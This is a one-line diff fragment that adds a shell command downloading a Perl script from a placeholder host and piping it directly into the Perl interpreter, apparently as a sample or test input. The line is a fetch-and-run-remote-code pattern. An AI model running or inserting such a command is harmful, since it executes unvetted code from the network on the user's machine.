@@ -1,0 +1,1 @@
+wget -O- http://example.com/a.pl | env perl
